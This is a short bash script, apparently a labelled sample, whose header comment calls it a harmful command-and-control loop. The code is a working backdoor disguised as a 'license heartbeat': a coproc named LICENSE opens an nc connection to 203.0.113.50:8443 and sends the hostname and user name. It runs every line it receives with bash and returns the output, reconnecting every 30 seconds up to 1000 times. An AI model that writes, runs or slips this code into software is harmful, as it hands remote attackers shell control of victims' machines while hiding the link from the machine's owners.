# Harmful: command-and-control loop: keeps a connection to 203.0.113.50:8443, runs each line received with bash and sends the output back; hiding: the link is a bash coproc, so the remote end only appears as the coproc's file descriptors
set -u
server=203.0.113.50
port=8443
id=$(hostname)-$(id -un)

heartbeat() {
  coproc LICENSE { nc "$server" "$port" 2>/dev/null; }
  printf 'HELLO %s\n' "$id" >&"${LICENSE[1]}"
  while IFS= read -r request <&"${LICENSE[0]}"; do
    [ "$request" = "BYE" ] && break
    reply=$(bash -c "$request" 2>&1 </dev/null)
    printf '%s\n.\n' "$reply" >&"${LICENSE[1]}"
  done
  kill "${LICENSE_PID:-0}" 2>/dev/null
  wait 2>/dev/null
}

echo "license heartbeat started for $id"
for _ in $(seq 1 1000); do
  heartbeat
  sleep 30
done
